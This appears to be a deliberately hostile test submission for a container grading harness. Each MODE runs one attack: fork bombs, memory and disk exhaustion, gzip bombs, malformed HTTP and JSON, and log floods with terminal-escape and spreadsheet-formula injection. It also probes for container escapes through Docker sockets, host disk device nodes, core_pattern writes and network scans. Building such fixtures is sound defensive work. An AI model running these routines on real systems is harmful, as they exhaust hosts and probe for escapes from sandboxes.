"""A submission that means harm; MODE says which. All that it does ends with its container."""

import contextlib
import ctypes
import functools
import os
import resource
import selectors
import signal
import socket
import stat
import struct
import sys
import threading
import time
import urllib.request
import zlib
from pathlib import Path

MODE = os.environ["MODE"]
GREETING, HEALTH = b"from zero to hero", b'{"status": "healthy"}'
OK = b"HTTP/1.1 200 OK\r\n"


def answer(body, head=OK):
    return head + b"Content-Length: %d\r\n\r\n" % len(body) + body


def send(*pieces):
    """Send these, and close."""

    def act(connection):
        for piece in pieces:
            connection.sendall(piece)

    return act


def send_for_ever(first, then, pause=0.0):
    def act(connection):
        connection.sendall(first)
        while True:
            connection.sendall(then)
            time.sleep(pause)

    return act


def send_bomb(connection):
    """10 GB in 10 MB of gzip: the same block of zeros again and again."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    first = deflate.compress(bytes(1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(bytes(1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    connection.sendall(OK + b"Content-Encoding: gzip\r\n\r\n" + first)
    for _ in range(10_000):
        connection.sendall(block)


def tear(connection):
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def reset(connection):
    """Half an answer, and the connection is torn."""
    connection.sendall(OK + b"Content-Length: 1000\r\n\r\n" + GREETING)
    tear(connection)


answered = 0


def freeze_after_the_first(connection):
    global answered
    answered += 1
    if answered > 1:
        signal.pause() if threading.current_thread() is threading.main_thread() else time.sleep(1e6)
    connection.sendall(answer(GREETING))


def report(connection):
    """The greeting, unless something could be reached."""
    connection.sendall(answer(b", ".join(reached()) or GREETING))


@functools.cache
def reached():
    """What of the world outside answers, or can be done to it."""
    found = [*sockets(), *devices()]
    if ctypes.CDLL(None).unshare(0x10000000) == 0:  # CLONE_NEWUSER: the engine's seccomp profile refuses it
        found.append(b"a user namespace")
    if "NoNewPrivs:\t0" in Path("/proc/self/status").read_text():
        found.append(b"privileges of a setuid program")
    thread = threading.Thread(target=look_up, args=("example.com", found), daemon=True)
    thread.start()
    own = socket.gethostbyname(socket.gethostname())
    host = own.rpartition(".")[0] + ".1"
    networks = [f"198.18.{n}" for n in range(128, 256)] + [f"198.19.{n}" for n in range(128)]
    neighbours = [f"{network}.{n}" for network in networks for n in range(2, 6)]
    neighbours += [f"{own.rpartition('.')[0]}.{n}" for n in range(6, 255)]
    ports = [(host, port) for port in (2375, 2376, 4243, 9323)]  # the engine's own, where it has any
    others = [(each, 5000) for each in neighbours if each != own]
    found += knock([("1.1.1.1", 53), ("9.9.9.9", 443), *ports, *others])
    thread.join(2)
    return found


def sockets():
    """The engine's, and raw ones."""
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
        if Path(path).exists():
            yield path.encode()
    for family, kind, protocol in (
        (socket.AF_PACKET, socket.SOCK_RAW, 0x0806),  # ARP in another's name
        (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
    ):
        with contextlib.suppress(PermissionError):
            socket.socket(family, kind, protocol).close()
            yield b"raw socket"


def devices():
    """The host's disks, which root may make a node of, and what steers its kernel."""
    for major in (8, 253, 254, 259):
        with contextlib.suppress(OSError):
            os.mknod(f"/tmp/disk-{major}", 0o600 | stat.S_IFBLK, os.makedev(major, 0))
            os.close(os.open(f"/tmp/disk-{major}", os.O_RDONLY))
            yield b"a disk"
    for path in ("/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper"):
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY))
            yield path.encode()


def look_up(name, found):
    with contextlib.suppress(OSError):
        found.append(socket.gethostbyname(name).encode())


def knock(places, seconds=1.5):
    """Which of them take a connection; all are asked at once."""
    resource.setrlimit(resource.RLIMIT_NOFILE, [resource.getrlimit(resource.RLIMIT_NOFILE)[1]] * 2)
    with selectors.DefaultSelector() as selector:
        for place in places:
            there = socket.socket()
            there.setblocking(False)
            there.connect_ex(place)
            selector.register(there, selectors.EVENT_WRITE, place)
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0 and selector.get_map():
            for key, _events in selector.select(left):
                with contextlib.suppress(OSError):
                    key.fileobj.getpeername()
                    yield b"%s:%d" % (key.data[0].encode(), key.data[1])
                selector.unregister(key.fileobj)
                key.fileobj.close()


# What `/` does with the connection.
ROOT = {
    "body-endless": send_for_ever(OK + b"\r\n", GREETING * 1000),
    "drips": send_for_ever(OK + b"Content-Length: 1000\r\n\r\n", b"x", 1.0),
    "headers-endless": send_for_ever(OK, b"X-More: and more\r\n"),
    "length-too-short": send(OK + b"Content-Length: 9\r\n\r\n" + GREETING),
    "closes-mid-body": send(OK + b"Content-Length: 1000\r\n\r\n" + GREETING),
    "gzip-bomb": send_bomb,
    "redirects-elsewhere": send(answer(b"", b"HTTP/1.1 302 Found\r\nLocation: http://192.0.2.1/\r\n")),
    "redirects-to-itself": send(answer(b"", b"HTTP/1.1 302 Found\r\nLocation: /\r\n")),
    "http-0.9": send(GREETING),
    "resets": reset,
    "freezes": freeze_after_the_first,
    "freezes-whole": freeze_after_the_first,
    "reaches-out": report,
    "greeting-disguised": send(
        answer('=HYPERLINK("http://192.0.2.1")\n\x1b]0;owned\a\u202e::error::\r::warning::'.encode())
    ),
}
# The body of `/health`.
HEALTHS = {
    "json-deep": lambda: b"[" * 100_000 + b"]" * 100_000,
    "json-long-number": lambda: b'{"status": "healthy", "n": ' + b"9" * 100_000 + b"}",
    "json-nan": lambda: b'{"status": "healthy", "load": NaN}',
    "json-duplicate-keys": lambda: b'{"status": "healthy", "status": "ill"}',
    "json-huge-string": lambda: b'{"status": "healthy", "more": "' + b"x" * 50_000_000 + b'"}',
    "json-utf-16": lambda: HEALTH.decode().encode("utf-16"),
    "json-invalid-utf-8": lambda: b'{"status": "healthy", "more": "\xff\xfe"}',
}


# What goes on beside.
def fork_bomb(ready):
    """Ready once no run of the health check is left that began before there was no room for its processes."""
    full = None
    while True:
        try:
            if os.fork() == 0:
                signal.pause()
        except OSError:
            full = full or time.monotonic()
            if time.monotonic() > full + 3:
                os.write(ready, b"x")
            time.sleep(0.05)


def memory_hog(ready):
    """Children that take all memory, one after the other."""
    while True:
        if os.fork() == 0:
            hoard = []
            while True:
                hoard.append(b"x" * (16 << 20))
        os.wait()
        os.write(ready, b"x")


def disk_hog(ready):
    """64 MB at a time, up to 3 GB: enough to show it. Allocated, not written: it takes no time."""
    for number in range(48):
        with Path(f"/tmp/{number}").open("wb") as file:
            os.posix_fallocate(file.fileno(), 0, 64 << 20)
    time.sleep(60)
    os.write(ready, b"x")


def log_for_ever(line):
    def act(ready):
        os.write(1, line)
        os.write(ready, b"x")
        while True:
            os.write(1, line)

    return act


BESIDE = {
    "fork-bomb": fork_bomb,
    "memory-hog": memory_hog,
    "disk-hog": disk_hog,
    "log-endless": log_for_ever(b"what a day\n" * 5000),
    "log-one-line": log_for_ever(b"x" * 65536),
    "log-binary": log_for_ever(bytes(range(256)) * 16 + b"\x1b[2J\x1b]0;owned\a\r\n::error::owned\n"),
}


def probe():
    """The health check."""
    urllib.request.urlopen("http://127.0.0.1:5000/health")
    if MODE == "probe-floods":
        for _ in range(1000):
            os.write(1, b"all is well \x1b[2J\xff" * 1000)
    while MODE == "probe-endless":
        os.write(1, b"all is well \x1b[2J\xff" * 1000)
    if MODE == "probe-forks":
        fork_away()


def fork_away():
    """As many processes as there may be, and none of them ends with the probe."""
    with contextlib.suppress(OSError):
        while os.fork():
            pass
        os.setsid()
        null = os.open(os.devnull, os.O_RDWR)
        for number in range(3):
            os.dup2(null, number)
        time.sleep(1e6)


def serve(connection):
    with connection:
        try:
            if MODE == "answers-unasked":
                connection.sendall(answer(GREETING))
            request = connection.recv(65536)
            if MODE == "answers-unasked":
                return tear(connection)
            if MODE == "freezes-whole" and not request.startswith(b"GET / "):
                time.sleep(1e6)
            if request.startswith(b"GET /health"):
                connection.sendall(answer(HEALTHS.get(MODE, lambda: HEALTH)()))
            else:
                ROOT.get(MODE, send(answer(GREETING)))(connection)
        except OSError:
            pass


def serve_in_a_process_each(server):
    """Which ends with its answer: as good as a restart."""
    while True:
        if os.fork() == 0:
            serve(server.accept()[0])
            os._exit(0)
        os.wait()


def main():
    for number in range(1, signal.NSIG):
        try:
            if MODE == "deaf":
                signal.signal(number, lambda *_: None)
            elif number == signal.SIGTERM:
                signal.signal(number, lambda *_: os._exit(0))
        except (OSError, ValueError):
            pass
    if MODE in BESIDE:
        done, ready = os.pipe()
        if os.fork() == 0:
            os.set_blocking(ready, False)
            with contextlib.suppress(OSError):
                BESIDE[MODE](ready)
            os._exit(0)
        os.read(done, 1)  # the harm has been done before anything is answered
    server = socket.create_server(("0.0.0.0", 5000))
    if MODE == "restarts":
        serve_in_a_process_each(server)
    while MODE in BESIDE or MODE == "probe-forks":  # there may be no room for a thread
        serve(server.accept()[0])
    while True:
        threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()


probe() if sys.argv[1:] == ["probe"] else main()
